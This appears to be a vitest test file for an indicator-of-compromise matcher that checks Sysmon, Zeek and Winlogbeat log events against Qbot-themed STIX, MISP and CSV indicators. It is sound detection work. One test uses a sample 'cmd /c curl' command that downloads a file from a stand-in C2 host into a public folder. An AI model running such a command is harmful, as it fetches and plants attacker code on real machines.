import { describe, expect, it } from 'vitest';
import { normaliseEvent } from '../fields/normalise-event.js';
import { parseIndicatorCsv } from './csv.parser.js';
import { DEFAULT_IOC_FIELDS, extendIocFields, parseIocFieldTable } from './field-table.js';
import { IndicatorIndex } from './indicator-index.js';
import { fixture } from './ioc.testing.js';
import { matchEvent, type IocHit, type MatchOptions } from './match-event.js';
import { parseMispEvent } from './misp.parser.js';
import { parseStixBundle } from './stix.parser.js';

const NOW = Date.parse('2024-06-01T00:00:00Z');
const index = IndicatorIndex.from([
  ...parseStixBundle(fixture('stix-bundle.json'), { file: 'stix-bundle.json' }).indicators,
  ...parseMispEvent(fixture('misp-event.json'), { file: 'misp-event.json' }).indicators,
  ...parseIndicatorCsv(fixture('indicators.csv'), { file: 'indicators.csv' }).indicators,
]);

const SHA256 = 'AF89B5718829814AE1ECDEE3BA558FEED86834C4129C08EBF48946706B52F533';

function hits(record: Record<string, unknown>, options: Partial<MatchOptions> = {}): string[] {
  return matchEvent(index, record, { now: NOW, ...options }).map((h) => `${h.field} ${h.indicator.type} ${h.matched}`);
}

describe('matchEvent', () => {
  it("reads Sysmon process creation: image, original file name and hashes (in the event's field order)", () => {
    const event = {
      EventID: 1,
      Image: 'C:\\Users\\Public\\qbot-dropper.exe',
      OriginalFileName: 'Invoice_Viewer.exe',
      Hashes: `SHA1=6ABB78FB1614C12E3E9FFF3DE98B0E13E79201D9,MD5=B9A75ED4500DD953DF172FE6F63578E8,SHA256=${SHA256},IMPHASH=00000000000000000000000000000000`,
    };
    expect(hits(event)).toEqual([
      'Image file-name qbot-dropper.exe',
      'OriginalFileName file-name invoice_viewer.exe',
      `Hashes sha256 ${SHA256.toLowerCase()}`,
    ]);
  });

  it('gives each hit the indicator with its source and author, the field, its text and the matched value', () => {
    const [hit] = matchEvent(index, { Hashes: `SHA256=${SHA256}` }, { now: NOW });
    expect(hit).toEqual<IocHit>({
      indicator: expect.objectContaining({
        id: 'indicator--00000000-0000-4000-8000-000000000001',
        type: 'sha256',
        name: 'Qbot loader DLL',
        labels: ['malicious-activity', 'qbot'],
        confidence: 85,
        origin: expect.objectContaining({ format: 'stix', file: 'stix-bundle.json', author: 'Hikari CERT' }),
      }),
      field: 'Hashes',
      value: `SHA256=${SHA256}`,
      matched: SHA256.toLowerCase(),
    });
  });

  it('reads Sysmon network and DNS events: addresses in networks, subdomains of indicator domains', () => {
    expect(
      hits({
        EventID: 3,
        DestinationIp: '198.51.100.20',
        DestinationHostname: 'x.relay.qbot.example',
        SourceIp: '10.1.1.1',
      }),
    ).toEqual(['DestinationIp ipv4 198.51.100.20', 'DestinationHostname domain x.relay.qbot.example']);
    expect(hits({ EventID: 22, QueryName: 'C2.Qbot-MISP.example' })).toEqual(['QueryName domain c2.qbot-misp.example']);
  });

  it('reads registry keys with the value name, HKU\\<sid> as HKCU and ControlSet00n as CurrentControlSet', () => {
    const sid = 'S-1-5-21-3940915590-64593676-1414006259-500';
    expect(hits({ TargetObject: `HKU\\${sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater` })).toEqual([
      'TargetObject registry-key hkcu\\software\\microsoft\\windows\\currentversion\\run',
    ]);
    expect(hits({ TargetObject: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\QbotLoader' })).toEqual([
      'TargetObject registry-key hklm\\software\\microsoft\\windows\\currentversion\\run\\qbotloader',
    ]);
    expect(hits({ ObjectName: '\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Services\\QbotSvc\\ImagePath' })).toEqual([
      'ObjectName registry-key hklm\\system\\currentcontrolset\\services\\qbotsvc',
    ]);
  });

  it('joins Zeek host and uri into a URL, and reads proxy URLs with their host', () => {
    expect(
      hits({ 'id.orig_h': '10.0.0.5', 'id.resp_h': '203.0.113.7', host: 'Payload.example', uri: '/dl/invoice.zip' }),
    ).toEqual(['id.resp_h ipv4 203.0.113.7', 'uri url http://payload.example/dl/invoice.zip']);
    expect(hits({ 'c-uri': 'https://c2.qbot-misp.example/gate.php' })).toEqual([
      'c-uri url https://c2.qbot-misp.example/gate.php',
      'c-uri domain c2.qbot-misp.example',
    ]);
  });

  it('reads Winlogbeat event_data, ECS nested objects and evtx_dump events', () => {
    expect(hits({ winlog: { event_data: { Image: 'C:\\Tools\\rclone.exe' } } })).toEqual([
      'winlog.event_data.Image file-name rclone.exe',
    ]);
    expect(hits({ destination: { ip: '10.66.1.1' } })).toEqual(['destination.ip ipv4 10.66.1.1']);
    const evtx = { Event: { System: { EventID: 11 }, EventData: { TargetFilename: 'C:\\Users\\Public\\Rclone.exe' } } };
    expect(hits(normaliseEvent(evtx)!)).toEqual(['TargetFilename file-name rclone.exe']);
  });

  it('leaves expired indicators out at the given moment', () => {
    const event = { QueryName: 'www.old-c2.example' };
    expect(hits(event)).toEqual([]);
    expect(hits(event, { now: new Date('2021-06-15T00:00:00Z') })).toEqual(['QueryName domain www.old-c2.example']);
  });

  it('scans other strings only when asked', () => {
    const event = {
      CommandLine: 'cmd /c curl https://c2.qbot-misp.example/gate.php -o C:\\Users\\Public\\rclone.exe',
      Message: 'peer 198.51.100.99 refused',
    };
    expect(hits(event)).toEqual([]);
    expect(hits(event, { scanAllStrings: true })).toEqual([
      'CommandLine url https://c2.qbot-misp.example/gate.php',
      'CommandLine domain c2.qbot-misp.example',
      'CommandLine file-name rclone.exe',
      'Message ipv4 198.51.100.99',
    ]);
  });

  it('reads fields added by the user, arrays included, without duplicate hits', () => {
    const { table, problems } = parseIocFieldTable({
      groups: [
        { kind: 'ip', fields: ['peers'] },
        { kind: 'file-path', fields: ['Image'] },
      ],
    });
    expect(problems).toEqual([]);
    const fields = extendIocFields(DEFAULT_IOC_FIELDS, table!);
    expect(hits({ peers: ['192.0.2.1', '10.66.9.9'], Image: 'C:\\rclone.exe' }, { fields })).toEqual([
      'peers ipv4 10.66.9.9',
      'Image file-name rclone.exe',
    ]);
  });

  it('reports a bad field table with the path of the mistake', () => {
    const { table, problems } = parseIocFieldTable({ groups: [{ kind: 'hostname', fields: ['x'] }] }, 'fields.json');
    expect(table).toBeUndefined();
    expect(problems).toEqual([
      { file: 'fields.json', field: 'groups.0.kind', message: expect.stringContaining('Invalid option') },
    ]);
  });
});
